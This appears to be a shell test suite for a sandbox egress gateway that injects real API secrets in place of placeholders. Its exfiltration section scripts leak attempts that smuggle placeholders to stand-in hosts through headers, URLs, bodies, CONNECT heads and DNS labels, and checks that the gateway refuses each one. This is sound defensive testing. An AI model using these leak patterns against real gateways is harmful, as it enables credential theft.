#!/usr/bin/env bash
# paddock-egress's secrets: placeholders in the sandbox, real values added by
# the gateway only for their hosts (src/egress/secrets.c, mitm.c). Same
# layout as 40-egress.sh, in namespaces of its own; no packet leaves
# loopback and these namespaces:
#
#   cl (client, "the sandbox")        gw (paddock-egress)          up (stand-ins)
#   198.51.100.2 --------------- 198.51.100.1 | 203.0.113.1 ------- 203.0.113.10
#   resolv.conf -> 198.51.100.1   nft: tcp 80/443 from cl           HTTPS :443 (test CA)
#                                 -> transparent :3129             HTTP :80, dnsmasq :53
#
# The stand-in upstream logs every request's headers on its side and
# answers only with digests (sha256) of them, so the client never sees a
# value even from an upstream that reflects what it gets.
. tests/lib/tap.sh
plan 56
EG=$PWD/$BUILD/paddock-egress
tmp=$(mktemp -d /var/tmp/pdtest-secrets.XXXXXX)
chmod 755 "$tmp"
id=$$
UP=pdsec-up-$id GW=pdsec-gw-$id CL=pdsec-cl-$id
pids=()
netns_mounted=$(awk '$5 == "/run/netns"' /proc/self/mountinfo)
etc_netns=$([ -d /etc/netns ] && echo yes)
cleanup() {
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	wait 2>/dev/null
	for n in $UP $GW $CL; do ip netns del "$n" 2>/dev/null; done
	rm -rf "/etc/netns/$CL" "$tmp"
	[ -n "$etc_netns" ] || rmdir /etc/netns 2>/dev/null
	if [ -z "$netns_mounted" ] && [ -z "$(ip netns list)" ]; then
		while awk '$5 == "/run/netns"' /proc/self/mountinfo | grep -q .; do umount /run/netns || break; done
	fi
}
trap cleanup EXIT
ingw() { ip netns exec "$GW" "$@"; }
incl() { ip netns exec "$CL" "$@"; }
wait_tcp() { # netns addr port
	for _ in $(seq 50); do
		ip netns exec "$1" bash -c "echo >/dev/tcp/$2/$3" 2>/dev/null && return 0
		sleep 0.1
	done
	return 1
}
sha() { printf %s "$1" | sha256sum | cut -d' ' -f1; }

# --- namespaces and links (as in 40-egress.sh) ---
for n in $UP $GW $CL; do ip netns add "$n" && ip -n "$n" link set lo up; done
ip link add gwu netns "$GW" type veth peer name upg netns "$UP"
ip link add gwc netns "$GW" type veth peer name clg netns "$CL"
ip -n "$GW" addr add 203.0.113.1/24 dev gwu && ip -n "$GW" link set gwu up
ip -n "$UP" addr add 203.0.113.10/24 dev upg && ip -n "$UP" link set upg up
ip -n "$GW" addr add 198.51.100.1/24 dev gwc && ip -n "$GW" link set gwc up
ip -n "$CL" addr add 198.51.100.2/24 dev clg && ip -n "$CL" link set clg up
ip -n "$CL" route add default via 198.51.100.1
mkdir -p "/etc/netns/$CL" && echo "nameserver 198.51.100.1" > "/etc/netns/$CL/resolv.conf"
ingw nft -f - <<'NFT'
table ip pdsec {
	chain pre {
		type nat hook prerouting priority dstnat;
		iifname "gwc" tcp dport { 80, 443 } redirect to :3129
	}
}
NFT

# --- the upstream's own test CA, and the stand-ins ---
(
	cd "$tmp"
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout upca.key \
		-out upca.pem -days 2 -subj /CN=pdtest-upstream-ca 2>/dev/null
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout srv.key -out srv.csr \
		-subj /CN=api.test 2>/dev/null
	printf 'subjectAltName=DNS:api.test,DNS:other.test,DNS:plain.test,DNS:nosecret.test\n' > san.ext
	openssl x509 -req -in srv.csr -CA upca.pem -CAkey upca.key -CAcreateserial -out srv.pem \
		-days 2 -extfile san.ext 2>/dev/null
)
cat > "$tmp/upstream.py" <<'PY'
# Logs each request (headers, body digest, peer port) as a JSON line to
# argv[3]; answers with digests only.
import hashlib, http.client, http.server, json, socketserver, ssl, sys, threading
http.client._MAXLINE = 1 << 18  # a 64 KiB header line must pass here too
LOG = open(sys.argv[3], "a", buffering=1)
lock = threading.Lock()
def sha(b): return hashlib.sha256(b if isinstance(b, bytes) else b.encode("latin-1")).hexdigest()
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def body(self):
        if self.headers.get("Transfer-Encoding", "").lower().endswith("chunked"):
            out = b""
            while True:
                n = int(self.rfile.readline().split(b";")[0], 16)
                if n == 0:
                    while self.rfile.readline() not in (b"\r\n", b"\n", b""): pass
                    return out
                out += self.rfile.read(n); self.rfile.readline()
        return self.rfile.read(int(self.headers.get("Content-Length", "0")))
    def handle_one(self):
        b = self.body()
        hdrs = [[k, v] for k, v in self.headers.items()]
        rec = {"path": self.path, "method": self.command, "headers": hdrs, "body": b.decode("latin-1"),
               "peer": self.client_address[1], "tls": isinstance(self.connection, ssl.SSLSocket)}
        with lock:
            LOG.write(json.dumps(rec) + "\n")
        ans = {"path": self.path, "peer": self.client_address[1], "body_sha": sha(b),
               "digests": {k.lower(): sha(v) for k, v in hdrs}}
        out = (json.dumps(ans) + "\n").encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_PUT = handle_one
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
plain = S(("203.0.113.10", 80), H)
tls = S(("203.0.113.10", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
ctx.set_alpn_protocols(["http/1.1"])
tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
threading.Thread(target=plain.serve_forever, daemon=True).start()
tls.serve_forever()
PY
touch "$tmp/up.jsonl"
ip netns exec "$UP" python3 "$tmp/upstream.py" "$tmp/srv.pem" "$tmp/srv.key" "$tmp/up.jsonl" \
	2>"$tmp/upstream.log" & pids+=($!)
ip netns exec "$UP" dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces --listen-address=203.0.113.10 \
	--port=53 --pid-file= --user=root --log-queries --log-facility=- \
	--address=/api.test/203.0.113.10 --address=/other.test/203.0.113.10 \
	--address=/plain.test/203.0.113.10 --address=/nosecret.test/203.0.113.10 \
	--address=/wrongname.test/203.0.113.10 2>"$tmp/dnsmasq.log" & pids+=($!)

# --- the gateway, standalone, with two secrets ---
# Placeholders as the daemon makes them; values only the gateway and the
# upstream's log ever hold.
PH1=paddock-secret-$(openssl rand -hex 16) PH2=paddock-secret-$(openssl rand -hex 16)
V1="sk-real-$(openssl rand -hex 20)" V2="ghp_real$(openssl rand -hex 18)"
ip netns exec "$GW" "$EG" --sandbox work --mode filtered --allow api.test --allow other.test \
	--allow plain.test --allow nosecret.test --allow wrongname.test \
	--proxy 198.51.100.1:3128 --transparent 198.51.100.1:3129 --dns 198.51.100.1:53 \
	--dns-upstream 203.0.113.10 --events "$tmp/events.jsonl" --upstream-ca "$tmp/upca.pem" \
	--secret "API_KEY=$PH1:$V1@api.test" --secret "GH_TOKEN=$PH2:$V2@other.test,wrongname.test" \
	--ca-out "$tmp/sandbox-ca.pem" 2>"$tmp/egress.log" & pids+=($!)
check "stand-ins and gateway are up" bash -c "$(declare -f wait_tcp); wait_tcp $UP 203.0.113.10 443 &&
	wait_tcp $UP 203.0.113.10 53 && wait_tcp $GW 198.51.100.1 3128"
sleep 0.3
egp=$(pgrep -f "^$EG --sandbox work" | head -n1)

# --- the gateway holds the values, the way it should ---
check "the sandbox's CA was written and is a CA" bash -c \
	"openssl x509 -in '$tmp/sandbox-ca.pem' -noout -text | grep -q 'CA:TRUE, pathlen:0'"
not_contains "the gateway's command line no longer shows the values" "$V1" "$(tr '\0' ' ' < /proc/"$egp"/cmdline)"
# (an ASan build turns mlock into a no-op: only MADV_DONTDUMP shows there)
lo=" lo "; nm -D "$EG" 2>/dev/null | grep -q __asan_init && lo=" "
check "the gateway has a locked, not-dumped mapping (the values)" bash -c \
	"awk '/^VmFlags:/ && /$lo/ && / dd / {f=1} END {exit !f}' /proc/$egp/smaps"
expect "the gateway is not dumpable" 0 "$(awk '/^Uid:/{print ($2 == 65534) ? 0 : 1}' /proc/"$egp"/status)"

uplog() { sleep 0.2; cat "$tmp/up.jsonl"; }
# the header NAME's value as the upstream logged it for PATH
seen() {
	python3 - "$tmp/up.jsonl" "$1" "$2" <<'PY'
import json, sys
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r["path"] == sys.argv[2]:
        print("\n".join(v for k, v in r["headers"] if k.lower() == sys.argv[3].lower()))
PY
}
CA=(--cacert "$tmp/sandbox-ca.pem")

# --- injection ---
out=$(incl curl -sS -m 10 "${CA[@]}" -H "x-api-key: $PH1" https://api.test/t443 2>&1)
contains "transparent 443: the request goes through" '"path": "/t443"' "$out"
expect "transparent 443: the upstream got the real value" "$V1" "$(seen /t443 x-api-key)"
contains "transparent 443: the client got only a digest of it" "\"x-api-key\": \"$(sha "$V1")\"" "$out"
not_contains "the client never saw the value" "$V1" "$out"
out=$(incl curl -sS -m 10 "${CA[@]}" -x http://198.51.100.1:3128 -H "Authorization: Bearer $PH1" \
	https://api.test/connect 2>&1)
expect "CONNECT: the upstream got the real value (Authorization: Bearer)" "Bearer $V1" "$(seen /connect authorization)"
incl curl -sS -m 10 "${CA[@]}" -u "git:$PH2" https://other.test/basic >/dev/null 2>&1
expect "Basic credentials: the placeholder inside base64 is replaced" \
	"Basic $(printf 'git:%s' "$V2" | base64 -w0)" "$(seen /basic authorization)"
out=$(incl curl -sS -m 10 "${CA[@]}" --http2 -w '%{http_version}' -o /dev/null https://api.test/alpn 2>&1)
expect "ALPN: the client is offered only HTTP/1.1" "1.1" "$out"
out=$(incl curl -sS -m 10 --cacert "$tmp/upca.pem" -H "x-api-key: $PH1" https://nosecret.test/spliced 2>&1)
contains "a host without secrets is spliced (its own certificate, no interception)" '"path": "/spliced"' "$out"
expect "... and its placeholder is not replaced" "$PH1" "$(seen /spliced x-api-key)"

# --- keep-alive, pipelining, bodies, a split placeholder, a 64 KB header ---
cat > "$tmp/client.py" <<'PY'
import http.client, json, socket, ssl, sys, time
mode, ca, ph = sys.argv[1], sys.argv[2], sys.argv[3]
ctx = ssl.create_default_context(cafile=ca)
def tls(host):
    return ctx.wrap_socket(socket.create_connection((host, 443), timeout=10), server_hostname=host)
def read_responses(s, n):
    f = s.makefile("rb"); out = []
    for _ in range(n):
        line = f.readline(); hdr = {}
        while True:
            l = f.readline()
            if l in (b"\r\n", b""): break
            k, v = l.decode().split(":", 1); hdr[k.strip().lower()] = v.strip()
        body = f.read(int(hdr.get("content-length", "0")))
        out.append((json.loads(body)["path"] if line.startswith(b"HTTP/1.1 200") else line.decode(), body.decode()))
    return out
if mode == "keepalive":
    c = http.client.HTTPSConnection("api.test", 443, context=ctx, timeout=10)
    peers = set()
    for i in range(5):
        if i == 2:
            c.request("POST", "/ka/%d" % i, body=b"x" * 100000 + ph.encode(), headers={"x-api-key": ph})
        elif i == 3:
            c.request("POST", "/ka/%d" % i, body=iter([b"chunk-one;", b"chunk-two"]),
                      headers={"x-api-key": ph}, encode_chunked=True)
        else:
            c.request("GET", "/ka/%d" % i, headers={"x-api-key": ph})
        r = c.getresponse(); peers.add(json.loads(r.read())["peer"])
        print(r.status, end=" ")
    print("peers=%d" % len(peers))
elif mode == "pipeline":
    s = tls("api.test")
    reqs = b"".join(b"GET /pipe/%d HTTP/1.1\r\nHost: api.test\r\nx-api-key: %s\r\n\r\n" % (i, ph.encode())
                    for i in range(3))
    s.sendall(reqs)
    print(" ".join(p for p, _ in read_responses(s, 3)))
elif mode == "split":
    s = tls("api.test")
    req = b"GET /split HTTP/1.1\r\nHost: api.test\r\nx-api-key: %s\r\n\r\n" % ph.encode()
    cut = req.index(ph.encode()) + 20
    for part in (req[:cut - 10], req[cut - 10:cut], req[cut:]):
        s.sendall(part); time.sleep(0.3)
    print(read_responses(s, 1)[0][0])
elif mode == "bighead":
    s = tls("api.test")
    s.sendall(b"GET /big HTTP/1.1\r\nHost: api.test\r\nx-big: " + b"b" * 65536 +
              b"\r\nx-api-key: " + ph.encode() + b"\r\n\r\n")
    print(read_responses(s, 1)[0][0])
elif mode == "exfil-body":
    s = tls("other.test")
    body = b"a" * 5000 + ph.encode() + b"b" * 10
    s.sendall(b"POST /exfil-body HTTP/1.1\r\nHost: other.test\r\nContent-Length: %d\r\n\r\n" % len(body))
    s.sendall(body[:5020]); time.sleep(0.3); s.sendall(body[5020:])
    out = b""
    try:
        while True:
            c = s.recv(65536)
            if not c: break
            out += c
    except Exception: pass
    print(out.decode("latin-1"))
elif mode == "fronting":
    s = tls("api.test")
    s.sendall(b"GET /front HTTP/1.1\r\nHost: other.test\r\nx-api-key: %s\r\n\r\n" % ph.encode())
    print(s.recv(65536).decode().split("\r\n")[0])
PY
pycl() { incl python3 "$tmp/client.py" "$1" "$tmp/sandbox-ca.pem" "$2" 2>&1; }
expect "keep-alive: 5 requests (GET, 100 kB POST, chunked POST) on one connection" \
	"200 200 200 200 200 peers=1" "$(pycl keepalive "$PH1")"
expect "keep-alive: the value was injected in each of the 5" "$V1 $V1 $V1 $V1 $V1" \
	"$(for i in 0 1 2 3 4; do seen /ka/$i x-api-key; done | xargs)"
check "keep-alive: bodies arrive intact (Content-Length and chunked)" python3 -c "
import json
rs = {r['path']: r for r in map(json.loads, open('$tmp/up.jsonl'))}
assert rs['/ka/2']['body'] == 'x' * 100000 + '$PH1', 'cl'
assert rs['/ka/3']['body'] == 'chunk-one;chunk-two', 'chunked'"
expect "pipelining: 3 requests sent at once, 3 answers in order" "/pipe/0 /pipe/1 /pipe/2" "$(pycl pipeline "$PH1")"
expect "pipelining: each was injected" "$V1 $V1 $V1" "$(for i in 0 1 2; do seen /pipe/$i x-api-key; done | xargs)"
expect "a placeholder cut across TCP segments is still replaced" "/split $V1" \
	"$(pycl split "$PH1") $(seen /split x-api-key)"
expect "a 64 KB header passes, and the value is injected" "/big $V1" "$(pycl bighead "$PH1") $(seen /big x-api-key)"
expect "a request whose Host is not the TLS name is refused (421)" "HTTP/1.1 421 Misdirected Request" \
	"$(pycl fronting "$PH1")"
expect "... and nothing of it reached the upstream" "" "$(seen /front x-api-key)"

# --- exfiltration ---
out=$(incl curl -sS -m 10 "${CA[@]}" -H "x-api-key: $PH1" https://other.test/exfil-hdr -w '\n%{http_code}' 2>&1)
contains "placeholder to another allowed host (header): 403" "403" "$out"
contains "... the 403 names the secret and the host" \
	"placeholder of secret API_KEY, which is only sent to api.test; other.test is not one of its hosts" "$out"
out=$(incl curl -sS -m 10 "${CA[@]}" -x http://198.51.100.1:3128 "https://other.test/exfil-url?k=$PH1" \
	-w '\n%{http_code}' 2>&1)
contains "placeholder in the URL to another host (CONNECT): 403" "secret API_KEY" "$out"
contains "placeholder in a body to another host: 403" "HTTP/1.1 403 Forbidden" "$(pycl exfil-body "$PH1")"
out=$(incl curl -sS -m 10 -H "x-api-key: $PH1" http://plain.test/exfil-plain 2>&1)
contains "placeholder in plain HTTP (transparent 80) to another host: 403" "secret API_KEY" "$out"
out=$(incl curl -sS -m 10 -x http://198.51.100.1:3128 -H "x-api-key: $PH1" http://api.test/clear 2>&1)
contains "placeholder over plain HTTP to its own host: refused (values go only over TLS)" \
	"only replaced over https" "$out"
out=$(incl python3 -c '
import socket, sys
s = socket.create_connection(("198.51.100.1", 3128), timeout=10)
s.sendall(b"CONNECT nosecret.test:443 HTTP/1.1\r\nHost: nosecret.test:443\r\nX-Leak: " + sys.argv[1].encode() + b"\r\n\r\n")
print(s.recv(4096).decode())' "$PH2" 2>&1)
contains "placeholder in a CONNECT head to another host: refused" "secret GH_TOKEN, which is only sent to other.test, wrongname.test; nosecret.test" "$out"
check "no exfiltration attempt reached the upstream" bash -c "! grep -q exfil '$tmp/up.jsonl'"
ev=$(sleep 0.2; cat "$tmp/events.jsonl")
contains "event: exfiltration in a header" \
	'"event":"exfiltration","sandbox":"work","secret":"API_KEY","host":"other.test","where":"header"' "$ev"
contains "event: exfiltration in the URL" '"secret":"API_KEY","host":"other.test","where":"url"' "$ev"
contains "event: exfiltration in a body" '"secret":"API_KEY","host":"other.test","where":"body"' "$ev"
contains "event: injection (named, no value)" '"event":"inject","sandbox":"work","secret":"API_KEY","host":"api.test"' "$ev"

# --- failing closed ---
out=$(incl curl -sS -m 10 -H "x-api-key: $PH1" https://api.test/untrusted 2>&1); rc=$?
check "a client that does not trust the sandbox's CA fails the handshake" test "$rc" -ne 0 -a "$rc" -ne 22
expect "... and the upstream saw no request from it" "" "$(seen /untrusted x-api-key)"
contains "... and the connect event says why" '"intercept_error":"client TLS handshake failed' "$(cat "$tmp/events.jsonl")"
out=$(incl curl -sS -m 10 "${CA[@]}" -H "Authorization: token $PH2" https://wrongname.test/ 2>&1)
contains "an upstream certificate not for the host: 502, nothing sent" "no trusted TLS connection to wrongname.test" "$out"

# --- DNS ---
cat > "$tmp/dnsq.py" <<'PY'
import random, socket, struct, sys
name = sys.argv[1]
q = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, ("198.51.100.1", 53))
print("rcode=%d" % (s.recv(4096)[3] & 15))
PY
hex=${PH1#paddock-secret-}
expect "DNS: a name carrying a placeholder is REFUSED" "rcode=5" \
	"$(incl python3 "$tmp/dnsq.py" "${hex:0:20}.${hex:20}.api.test")"
expect "DNS: (control) the plain name resolves" "rcode=0" "$(incl python3 "$tmp/dnsq.py" api.test)"
sleep 0.2
not_contains "DNS: the placeholder never reached the upstream resolver" "${hex:0:20}" "$(tr A-Z a-z < "$tmp/dnsmasq.log")"
contains "DNS: an exfiltration event" '"secret":"API_KEY","host":"'"${hex:0:20}"'.'"${hex:20}"'.api.test","where":"dns"' \
	"$(cat "$tmp/events.jsonl")"

# --- daemon mode: secrets over the control channel, rotation, stats ---
cat > "$tmp/control.py" <<'PY'
import array, json, os, socket, ssl, subprocess, sys, time
eg, up, upca, ph = sys.argv[1:5]
def tap(ok, what): print(("ok" if ok else "not ok") + " - " + what, flush=True)
def listeners(base):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("198.51.100.1", base))
    fds = [u]
    for p in (base, base + 1, base + 2):
        t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        t.bind(("198.51.100.1", p)); t.listen(64); fds.append(t)
    return fds
ctl, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
p = subprocess.Popen([eg, "--control-fd", str(theirs.fileno()), "--dns-upstream", up, "--upstream-ca", upca],
                     pass_fds=[theirs.fileno()], stderr=subprocess.PIPE)
theirs.close()
events = []
def send(obj, socks=()):
    fds = [s.fileno() for s in socks]
    anc = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else []
    ctl.sendmsg([json.dumps(obj).encode()], anc)
    for s in socks: s.close()
    while True:
        m = json.loads(ctl.recv(65536))
        if "event" in m: events.append(m); continue
        return m
def secret(v): return [{"name": "API_KEY", "placeholder": ph, "value": v, "hosts": ["api.test"]}]
r = send({"op": "add", "sandbox": "d", "mode": "filtered", "allow": ["api.test"],
          "secrets": secret("value-one")}, listeners(4100))
ca = r.get("ca_pem", "")
tap(r.get("ok") is True and ca.startswith("-----BEGIN CERTIFICATE-----"), "control: add with secrets returns the CA (ca_pem)")
open("/tmp/.pdsec-ca-%d.pem" % os.getpid(), "w").write(ca)
ctx = ssl.create_default_context(cafile="/tmp/.pdsec-ca-%d.pem" % os.getpid())
os.unlink("/tmp/.pdsec-ca-%d.pem" % os.getpid())
def get(path):
    s = socket.create_connection(("198.51.100.1", 4101), timeout=10)
    s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
    assert b" 200 " in s.recv(4096)
    t = ctx.wrap_socket(s, server_hostname="api.test")
    t.sendall(b"GET %s HTTP/1.1\r\nHost: api.test\r\nx-api-key: %s\r\nConnection: close\r\n\r\n" % (path.encode(), ph.encode()))
    out = b""
    while True:
        c = t.recv(65536)
        if not c: break
        out += c
    return json.loads(out.split(b"\r\n\r\n", 1)[1])
import hashlib
h = lambda v: hashlib.sha256(v.encode()).hexdigest()
tap(get("/rot1")["digests"].get("x-api-key") == h("value-one"), "control: the first value is injected")
r = send({"op": "secrets", "sandbox": "d", "secrets": secret("value-two")})
tap(r.get("ok") is True and r.get("ca_pem") == ca, "control: secrets (rotation) keeps the same CA")
tap(get("/rot2")["digests"].get("x-api-key") == h("value-two"), "control: the rotated value is injected, no restart")
st = send({"op": "secrets-stats", "sandbox": "d"})
s0 = (st.get("secrets") or [{}])[0]
tap(st.get("ok") and s0.get("name") == "API_KEY" and s0.get("hosts") == ["api.test"] and s0.get("injections") == 2
    and "value" not in json.dumps(st), "control: secrets-stats: name, hosts, 2 injections, no value (%s)" % json.dumps(st))
r = send({"op": "secrets", "sandbox": "d", "secrets": [{"name": "X", "placeholder": "nope", "value": "v", "hosts": ["a.test"]}]})
tap(r.get("ok") is False and "placeholder" in r.get("error", ""), "control: a bad placeholder is refused")
r = send({"op": "secrets", "sandbox": "d", "secrets": [{"name": "X", "placeholder": ph, "value": "a\r\nb", "hosts": ["a.test"]}]})
tap(r.get("ok") is False and "a\r\nb" not in r.get("error", ""), "control: a value with a line break is refused (and not echoed)")
r = send({"op": "remove", "sandbox": "d"})
ctl.close()
try:
    p.wait(timeout=3); ok = p.returncode == 0
except subprocess.TimeoutExpired:
    p.kill(); ok = False
err = p.stderr.read().decode()
tap(ok and "value-one" not in err and "value-two" not in err, "control: exits 0, nothing of the values on stderr")
if not ok: print("# exit %s: %s" % (p.returncode, err[-1500:].replace("\n", "\n# ")))
PY
while read -r line; do
	case "$line" in
	"ok - "*) ok 0 "${line#ok - }" ;;
	"not ok - "*) ok 1 "${line#not ok - }" ;;
	*) diag "$line" ;;
	esac
done < <(ingw python3 "$tmp/control.py" "$EG" 203.0.113.10 "$tmp/upca.pem" "$PH1" 2>&1)

# --- no value where it should not be ---
sleep 0.2
check "no value in the events or the gateway's log" bash -c \
	"! grep -qF -e '$V1' -e '$V2' '$tmp/events.jsonl' '$tmp/egress.log'"
check "no sanitizer report in the gateway's log" bash -c \
	"! grep -qE 'ERROR: AddressSanitizer|runtime error:' '$tmp/egress.log'"
check "every event line is a JSON object" python3 -c "
import json
for l in open('$tmp/events.jsonl'): assert isinstance(json.loads(l), dict)"

t=$tmp
cleanup
trap - EXIT
check "no stand-in or gateway process is left" bash -c "sleep 0.3; ! pgrep -f '[${t:0:1}]${t:1}'"
leak_check "after the secrets tests"
finish
